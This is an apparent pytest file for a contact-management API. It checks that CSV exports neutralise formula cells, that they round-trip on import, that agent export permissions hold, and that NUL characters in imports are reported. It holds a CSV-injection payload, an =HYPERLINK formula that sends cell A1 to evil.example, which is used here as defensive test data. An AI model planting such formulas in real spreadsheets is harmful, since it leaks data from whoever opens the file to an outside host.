"""Exporting every contact: cells a spreadsheet would run as formulas are neutralised (and the
file still imports back exactly), and agents may export only where the workspace allows."""

from __future__ import annotations

import csv
import io

from fastapi.testclient import TestClient

from tests.conftest import Tenant
from tidings.workspaces.domain import Role

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_formula_cells_are_neutralised_and_the_export_round_trips(
    client: TestClient, tenant: Tenant
) -> None:
    headers = tenant.headers()
    created = client.post(
        "/api/v1/contacts",
        json={"name": HOSTILE, "first_name": "@SUM(1+1)", "phone": "0912 345 678",
              "lead_source": "-2+3"},
        headers=headers,
    )  # fmt: skip
    assert created.status_code == 201, created.text
    exported = client.get("/api/v1/contacts/export", headers=headers)
    assert exported.status_code == 200
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    assert rows[0]["name"] == "'" + HOSTILE
    assert rows[0]["first_name"] == "'@SUM(1+1)"
    assert rows[0]["phone"] == "'+886912345678"
    assert rows[0]["lead_source"] == "'-2+3"
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values())
    # Importing the file back changes nothing: the apostrophes come off again.
    again = client.post(
        "/api/v1/contacts/import",
        content=exported.content,
        headers={**headers, "content-type": "text/csv"},
    )
    assert again.status_code == 200, again.text
    assert again.json()["unchanged"] == 1 and again.json()["failed"] == 0
    contact = client.get(f"/api/v1/contacts/{created.json()['id']}", headers=headers).json()
    assert contact["name"] == HOSTILE and contact["phone"] == "+886912345678"


def test_agents_export_only_where_the_workspace_allows_it(
    client: TestClient, tenant: Tenant
) -> None:
    refused = client.get("/api/v1/contacts/export", headers=tenant.headers(Role.AGENT))
    assert refused.status_code == 403
    allowed = client.patch(
        "/api/v1/workspace",
        json={"policy": {"agents_may_export_contacts": True}},
        headers=tenant.headers(),
    )
    assert allowed.status_code == 200, allowed.text
    assert client.get("/api/v1/contacts/export", headers=tenant.headers(Role.AGENT)).is_success


def test_a_nul_character_in_an_imported_cell_is_reported_for_its_row(
    client: TestClient, tenant: Tenant
) -> None:
    body = "name,phone\nGood,+886912000001\nBad\x00Name,+886912000002\n"
    answer = client.post(
        "/api/v1/contacts/import",
        content=body.encode(),
        headers={**tenant.headers(), "content-type": "text/csv"},
    )
    assert answer.status_code == 200, answer.text
    result = answer.json()
    assert result["created"] == 1 and result["failed"] == 1
    assert result["problems"][0]["line"] == 3 and result["problems"][0]["code"] == "nul_character"
